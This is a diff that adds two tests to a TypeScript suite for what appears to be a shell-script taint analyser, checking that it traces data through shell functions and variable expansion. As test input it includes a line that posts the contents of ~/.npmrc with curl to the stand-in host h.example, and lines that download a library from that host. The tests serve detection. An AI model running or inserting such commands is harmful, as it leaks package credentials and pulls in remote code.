@@ -232,6 +232,23 @@ describe('where a script lies, and what it moves', () => {
     expect(sent.flatMap(({ taints }) => taints.map(({ source }) => source))).toContain('secret.file');
   });
 
+  test('functions are called whatever letters their names have', () => {
+    expect(flows('sendIt() { curl -d "$1" https://h.example; }; sendIt "$(cat ~/.npmrc)"', 'net.out')).toContain(
+      'secret.file',
+    );
+    const shown = sinks('colorEcho() { echo "$1"; }; colorEcho "$(curl -s https://h.example)"', 'process.spawn');
+    expect(shown.map(({ api }) => api)).toEqual(['shell.curl']);
+  });
+
+  test('behind a host in plain sight, and where a download is put, pieces hide nothing', () => {
+    const decoded = (line: string): boolean | undefined =>
+      sinks(`X=a@h.example; v=\${X#*@}; ${line}`, 'process.spawn').find(({ api }) => api === 'shell.curl')?.args[0]
+        ?.decoded;
+    expect(decoded('curl -fo "lib-$v.so" "https://h.example/$v/lib.so"')).toBe(false);
+    expect(decoded('curl -f "https://$v/lib.so"')).toBe(true);
+    expect(decoded('curl -fd "$v" https://h.example')).toBe(true);
+  });
+
   test('autoconf makes names with sed and tr, and evaluates assignments of them', () => {
     const { observations } = inFile('v=$(echo "ac_$1" | tr "a-z.-" "A-Z__"); eval "have_$v=yes"');
     expect(observations.flatMap(({ taints }) => taints.map(({ source }) => source))).not.toContain('file.own');
